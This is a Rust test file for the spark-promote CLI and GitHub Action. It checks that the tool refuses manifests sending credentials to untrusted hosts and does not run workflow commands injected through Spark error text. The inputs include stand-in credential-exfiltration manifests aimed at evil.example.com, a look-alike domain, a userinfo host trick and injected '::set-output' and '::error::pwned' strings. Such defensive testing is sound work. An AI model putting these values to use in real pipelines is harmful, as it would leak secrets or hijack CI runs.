//! Hostile input: manifests that point credentials at a host that is not allowed, a pull request that edits
//! the manifest, and Spark error text carrying workflow commands.
use std::sync::{Arc, Mutex};

use serde_json::json;
use tokio::io::AsyncReadExt;

use super::{From, QUICK, promote, write_package};
use crate::support::cli::{Lab, Output};

/// A listener set as every proxy of the binary: a request to any non-loopback host, resolvable or not,
/// would arrive here first (`CONNECT host:443` for https), so an empty trap proves none was sent.
struct Trap {
    url: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Trap {
    async fn start() -> Trap {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let seen = Arc::new(Mutex::new(Vec::new()));
        let record = seen.clone();
        tokio::spawn(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                let mut head = vec![0u8; 4096];
                let n = socket.read(&mut head).await.unwrap_or(0);
                let text = String::from_utf8_lossy(&head[..n]).into_owned();
                record.lock().unwrap().push(text);
            }
        });
        Trap { url, seen }
    }

    fn env(&self) -> Vec<(&'static str, &str)> {
        let url = self.url.as_str();
        vec![
            ("HTTPS_PROXY", url),
            ("https_proxy", url),
            ("HTTP_PROXY", url),
            ("http_proxy", url),
            ("ALL_PROXY", url),
            ("NO_PROXY", ""),
            ("no_proxy", ""),
        ]
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// A manifest whose one environment (`evil`) is `environment`, and a promotion of a package into it.
fn evil_manifest(lab: &Lab, environment: &str) {
    write_package(lab, "p.zip", &["pricing/quote"], 1024);
    lab.write(
        "spark-promote.yaml",
        &format!(
            "version: 1\nenvironments:\n  evil:\n{environment}promotions:\n  - name: p\n    from: {{ package: packages/p.zip }}\n    to: evil\n"
        ),
    );
}

const BEARER: &str = "    auth: { bearer: \"${SPARK_PROD_TOKEN}\" }\n";

fn refused(output: &Output, why: &str, case: &str) {
    assert_eq!(output.code, 2, "{case}: {output:?}");
    assert!(output.stderr.contains(why), "{case}: {}", output.stderr);
    output.assert_no_secret();
}

#[tokio::test(flavor = "multi_thread")]
async fn credentials_never_reach_a_host_that_is_not_allowed() {
    let lab = Lab::start(QUICK).await;
    let trap = Trap::start().await;
    let cases: [(&str, String, &[&str], &str); 5] = [
        (
            "an unknown host",
            format!("    url: https://evil.example.com/acme\n{BEARER}"),
            &[],
            "host evil.example.com may not receive credentials",
        ),
        (
            "a token_url on an unknown host",
            format!(
                "    url: {}/acme-prod\n    auth:\n      oauth2: {{ client_id: \"${{SPARK_UAT_CLIENT_ID}}\", client_secret: \"${{SPARK_UAT_CLIENT_SECRET}}\", token_url: https://evil.example.com/token }}\n",
                lab.url()
            ),
            &[],
            "host evil.example.com may not receive credentials",
        ),
        (
            "plain http to an allowed host",
            format!("    url: http://evil.example.com/acme\n{BEARER}"),
            &["--allow-host", "evil.example.com"],
            "plain http",
        ),
        (
            "a coherent.global look-alike",
            format!(
                "    url: https://excel.uat.us.coherent.global.evil.example.com/acme\n{BEARER}"
            ),
            &["--allow-host", "*.coherent.global"],
            "may not receive credentials",
        ),
        (
            "a coherent.global user name before the real host",
            format!(
                "    url: https://excel.uat.us.coherent.global@evil.example.com/acme\n{BEARER}"
            ),
            &[],
            "user name or password",
        ),
    ];
    for (case, environment, extra, why) in cases {
        evil_manifest(&lab, &environment);
        for command in ["apply", "plan"] {
            let mut args = vec![command];
            args.extend_from_slice(extra);
            let output = lab.cli_with(&args, &trap.env()).await;
            refused(&output, why, case);
        }
    }
    assert!(trap.requests().is_empty(), "{:#?}", trap.requests());
    assert!(lab.jobs().await.is_empty());

    // The trap works: a host the caller allows is reached through it.
    evil_manifest(
        &lab,
        &format!("    url: https://evil.example.com/acme\n{BEARER}"),
    );
    let output = lab
        .cli_with(&["apply", "--allow-host", "evil.example.com"], &trap.env())
        .await;
    assert_ne!(output.code, 0, "{output:?}");
    output.assert_no_secret();
    let requests = trap.requests();
    assert!(
        requests
            .iter()
            .any(|r| r.starts_with("CONNECT evil.example.com:443")),
        "{requests:#?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pull_request_manifest_cannot_send_secrets_to_its_own_host() {
    let lab = Lab::start(QUICK).await;
    let trap = Trap::start().await;
    evil_manifest(
        &lab,
        "    url: https://excel.uat.us.coherent.global/acme\n    auth:\n      oauth2: { client_id: \"${SPARK_UAT_CLIENT_ID}\", client_secret: \"${SPARK_UAT_CLIENT_SECRET}\", token_url: https://collect.evil.example.com/token }\n",
    );
    let event = lab.write(
        "pr.json",
        &json!({"pull_request": {"number": 7, "head": {"sha": "0123456789abcdef0123456789abcdef01234567"}}})
            .to_string(),
    );
    let event = event.display().to_string();
    for command in ["plan", "apply", "validate"] {
        let mut env = trap.env();
        env.extend([
            ("GITHUB_EVENT_NAME", "pull_request"),
            ("GITHUB_EVENT_PATH", event.as_str()),
            ("INPUT_ALLOWED-HOSTS", ""),
            ("INPUT_COMMAND", command),
        ]);
        let run = lab.action(&env).await;
        assert_eq!(run.output.code, 2, "{command}: {run:?}");
        assert!(
            run.output.stdout.lines().any(
                |line| line.starts_with("::error") && line.contains("collect.evil.example.com")
            ),
            "{command}: the refusal is annotated: {}",
            run.output.stdout
        );
        run.assert_no_secret();
    }
    assert!(trap.requests().is_empty(), "{:#?}", trap.requests());
}

#[tokio::test(flavor = "multi_thread")]
async fn workflow_commands_in_spark_errors_are_not_executed() {
    let lab = Lab::start(QUICK).await;
    promote(&lab, From::Package, "prod");
    lab.fault(
        json!({"fail_next_job": "::set-output name=x::y\n::error::pwned\n::add-mask::nothing"}),
    )
    .await;
    let run = lab.action(&[("INPUT_COMMAND", "apply")]).await;
    assert_eq!(run.output.code, 1, "{run:?}");
    assert!(
        run.result.contains("pwned"),
        "the error reached the result: {}",
        run.result
    );
    for (stream, text) in [
        ("stdout", &run.output.stdout),
        ("stderr", &run.output.stderr),
    ] {
        for line in text.lines() {
            // The failure's own annotation carries Spark's text escaped onto its one line.
            if line.starts_with("::error title=spark-promote ") {
                assert!(line.contains("%0A\u{2060}::error::pwned"), "{line}");
                continue;
            }
            let command = line.trim_start().starts_with("::");
            assert!(
                !(command
                    && (line.contains("pwned")
                        || line.contains("set-output")
                        || line.contains("nothing"))),
                "{stream} runs a command from Spark's text: {line}\n{text}"
            );
        }
    }
    assert!(
        !run.outputs
            .lines()
            .any(|line| line.starts_with("x=") || line.starts_with("x<<")),
        "{}",
        run.outputs
    );
    run.assert_no_secret();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_bad_package_is_refused_before_any_call() {
    let lab = Lab::start(QUICK).await;
    std::fs::create_dir_all(lab.path("packages")).unwrap();
    let limit = spark_promote::promote::source::package::DEFAULT_MAX_BYTES;
    /// What is at the package's path.
    enum Bad {
        Missing,
        Bytes(&'static [u8]),
        /// A sparse file of this size.
        Size(u64),
    }
    let cases = [
        (
            "missing",
            Bad::Missing,
            "packages/p.zip: No such file or directory",
        ),
        ("empty", Bad::Bytes(b""), "is empty"),
        (
            "not a ZIP",
            Bad::Bytes(b"<html>not a package</html>"),
            "ZIP",
        ),
        (
            "over the limit",
            Bad::Size(limit + 1),
            "over the tenant's upload limit",
        ),
    ];
    for (case, bad, why) in cases {
        let path = lab.path("packages/p.zip");
        let _ = std::fs::remove_file(&path);
        match bad {
            Bad::Missing => {}
            Bad::Bytes(bytes) => std::fs::write(&path, bytes).unwrap(),
            Bad::Size(size) => std::fs::File::create(&path).unwrap().set_len(size).unwrap(),
        }
        lab.manifest(
            "promotions:\n  - name: p\n    from: { package: packages/p.zip }\n    to: prod\n",
        );
        for command in ["validate", "apply"] {
            let output = lab.cli(&[command]).await;
            refused(&output, why, &format!("{case} ({command})"));
        }
    }
    assert!(lab.jobs().await.is_empty());
}
